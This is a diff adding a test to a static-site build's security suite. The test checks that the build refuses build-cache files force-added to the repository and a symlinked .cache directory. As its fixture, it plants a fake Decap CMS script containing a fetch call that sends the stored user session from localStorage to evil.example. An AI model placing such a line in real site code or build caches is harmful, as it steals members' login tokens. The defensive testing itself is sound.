@@ -174,3 +174,32 @@ def test_the_fast_content_check_reports_active_files_too(tmp_path: Path) -> None
     )
     assert done.returncode == 1, done.stdout + done.stderr
     assert "piege.html, ligne 1 : ce fichier est un fichier « .html »" in done.stdout
+
+
+def test_a_build_cache_brought_by_a_commit_is_refused(tmp_path: Path) -> None:
+    """The form editor's scripts are kept in .cache/editor/ (ignored by git), checked against package.json
+    when downloaded, then copied to /admin/ at every build. A pull request that force-added
+    .cache/editor/decap-cms/decap-cms.js (and its .version) had its own script published where members
+    log in with their forge account: the build now refuses any tracked file of .cache/, and a .cache link."""
+    site = make_attack_site(tmp_path)
+    planted = site.root / ".cache" / "editor" / "decap-cms"
+    planted.mkdir(parents=True)
+    (planted / "decap-cms.js").write_text("fetch('https://evil.example/?t=' + localStorage.getItem('decap-cms-user'))")
+    (planted / ".version").write_text("decap-cms@3.16.0\n")
+    site.git("add", "-f", ".cache")
+    commit_all(site)
+    done = site.build()
+    no_traceback(done)
+    assert done.returncode == 1, done.stderr[-2000:]
+    assert "  - .cache/editor/decap-cms/decap-cms.js est un fichier du cache de la construction ajouté au dépôt" in (
+        done.stderr
+    ), done.stderr[-2000:]
+    assert "git rm -r --cached .cache" in done.stderr
+    assert not (site.root / "site" / "admin").exists()
+    other = make_attack_site(tmp_path / "lien")
+    (tmp_path / "ailleurs").mkdir()
+    (other.root / ".cache").symlink_to(tmp_path / "ailleurs")
+    commit_all(other)
+    linked = other.build()
+    assert linked.returncode == 1, linked.stderr[-2000:]
+    assert "  - .cache est un lien symbolique" in linked.stderr
